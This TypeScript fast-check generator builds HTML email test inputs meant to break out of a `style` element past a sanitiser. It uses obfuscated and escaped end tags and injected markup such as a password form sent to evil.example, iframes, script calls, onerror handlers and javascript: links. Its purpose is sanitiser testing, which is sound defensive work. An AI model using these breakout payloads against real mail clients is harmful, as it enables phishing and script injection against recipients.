import fc from 'fast-check'

/*
 * Mails that try to end a `style` element where the sanitiser does not see its end: what is not an end tag in the mail
 * becomes one if something in the middle is removed, unescaped or joined.
 */

const pick = (...pieces: readonly string[]) => fc.constantFrom(...pieces)
/** Half of the time the first piece. */
const pickMostly = (first: string, ...pieces: readonly string[]) =>
  fc.oneof(fc.constant(first), pick(...pieces))

/** Elements around the style that change how a parser reads it. */
const around = pickMostly(
  ...([
    '',
    '<svg>',
    '<math>',
    '<svg><desc>',
    '<svg><title>',
    '<math><mtext>',
    '<math><annotation-xml>',
  ] as const),
  ...['<table>', '<select>', '<noscript>', '<template>', '<title>', '<div><p>', '<svg><style></style>'],
)

/** CSS that the end of the style may be within. */
const before = pickMostly(
  ...(['', 'a{}', 'a{b:c', '/*', '/*x*/', '"', "a{content:'", 'url(', '<!--', '@media print{'] as const),
  '<![CDATA[',
  ...['@import "', '<style>', '<svg><style>', '\\', 'a\\', '(', 'expression('],
)

const endTag = pickMostly(
  ...([
    '</style',
    '</STYLE',
    '</ſtyle',
    '<\\/style',
    '\\</style',
    '<\\/\\73tyle',
    '\\3c/style',
    '\\3c /style',
  ] as const),
  ...[
    '</s/**/tyle',
    '<!--</style',
    '</style</style',
    '<<!---->/style',
    '<@x;/style',
    '</@x;style',
    '<"\n/style',
  ],
  ...['<url(a b)/style', '<!--/style', '</style\\', '&lt;/style', '<//style', '<\0/style'],
)

/** What a sanitiser of CSS removes or replaces, and what may follow the name of an end tag. */
const removed = pick(
  ...['@import "x";', '@import url(x);', '@\\69mport "x";', '@font-face{a:b}', '@charset "x";', '@x{', '@x'],
  ...[
    '"bad\n',
    "'bad\n",
    '"bad\r\n',
    '"bad\f',
    'url(a b)',
    "url(a'b)",
    'url(x)',
    'expression(1)',
    'src("x")',
  ],
  ...[
    '/**/',
    '/*',
    '<!--',
    '-->',
    ']]>',
    '<![CDATA[',
    'column-count',
    '\\20 ',
    '\\\n',
    '\t',
    '\f',
    '\0',
    ' ',
    '',
  ],
)

const rest = pick(
  '>',
  '/>',
  ' >',
  '\n>',
  '\f>',
  ' x=">',
  " x='>",
  ' x="y">',
  ' x=y/>',
  '/x=">">',
  '>"',
  ';>',
  '}>',
)

/** Markup that none of it may become live. */
const payload = pick(
  '<form action=https://evil.example><input name=password><button id=target>Sign in</button></form>',
  '<iframe src=https://evil.example></iframe>',
  '<frameset><frame src=https://evil.example></frameset>',
  '<object data=https://evil.example></object><embed src=https://evil.example>',
  '<link rel=stylesheet href=https://evil.example><script>attacked()</script>',
  '<img src=https://evil.example onerror=attacked()><svg onload=attacked()>',
  '<meta http-equiv=refresh content="0;url=https://evil.example"><base href=https://evil.example>',
  '<video src=https://evil.example autoplay></video><a href=javascript:attacked() id=target>x</a>',
)

const end = pick(
  '</style>',
  '</style >',
  '</style\n>',
  '"></style>',
  '*/</style>',
  ']]></style>',
  '--></style>',
  '',
)

/** The HTML of such a mail. */
export const styleBreakout: fc.Arbitrary<string> = fc
  .tuple(
    around,
    before,
    fc.array(fc.tuple(endTag, removed, rest), { minLength: 1, maxLength: 3 }),
    payload,
    end,
  )
  .map(([open, css, tags, markup, close]) =>
    [open, '<style>', css, ...tags.flat(), markup, close, '<p>Hello, tester.</p>'].join(''),
  )
